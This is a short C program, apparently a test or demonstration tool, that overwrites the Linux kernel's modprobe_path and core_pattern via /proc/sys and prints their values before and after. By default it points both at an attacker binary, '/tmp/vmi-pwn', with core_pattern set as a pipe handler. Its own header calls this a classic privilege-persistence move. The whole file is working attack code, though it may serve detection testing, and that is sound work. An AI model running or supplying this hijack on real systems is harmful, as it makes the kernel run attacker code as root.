/*
 * sysctl-attack: the classic privilege-persistence move of overwriting the kernel's modprobe_path
 * (sysctl kernel.modprobe) and core_pattern (kernel.core_pattern) through /proc/sys. Prints each
 * value before and after, named by the kernel variable.
 *   sysctl-attack                      both, with attacker defaults
 *   sysctl-attack modprobe_path VALUE  one of them, with a chosen value
 *   sysctl-attack core_pattern VALUE
 */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

/* The sysctl file of each kernel variable: modprobe_path is exposed as kernel.modprobe. */
static const char *sysctl_path(const char *name) {
  return strcmp(name, "modprobe_path") == 0 ? "/proc/sys/kernel/modprobe" : "/proc/sys/kernel/core_pattern";
}

static int show(const char *name, const char *label) {
  const char *path = sysctl_path(name);
  char value[256];
  int fd = open(path, O_RDONLY);
  if (fd < 0) return perror(path), -1;
  ssize_t n = read(fd, value, sizeof value - 1);
  close(fd);
  if (n < 0) return perror(path), -1;
  value[n] = '\0';
  value[strcspn(value, "\n")] = '\0';
  printf("%s %s=%s\n", label, name, value);
  return 0;
}

static int overwrite(const char *name, const char *value) {
  const char *path = sysctl_path(name);
  if (show(name, "BEFORE") != 0) return -1;
  int fd = open(path, O_WRONLY);
  if (fd < 0) return perror(path), -1;
  ssize_t n = write(fd, value, strlen(value));
  close(fd);
  if (n != (ssize_t)strlen(value)) return perror(path), -1;
  return show(name, "AFTER");
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  if (argc == 1) {
    int a = overwrite("modprobe_path", "/tmp/vmi-pwn");
    int b = overwrite("core_pattern", "|/tmp/vmi-pwn %p");
    return a == 0 && b == 0 ? 0 : 1;
  }
  if (argc == 3 && (strcmp(argv[1], "modprobe_path") == 0 || strcmp(argv[1], "core_pattern") == 0))
    return overwrite(argv[1], argv[2]) == 0 ? 0 : 1;
  fprintf(stderr, "usage: sysctl-attack [modprobe_path|core_pattern VALUE]\n");
  return 2;
}
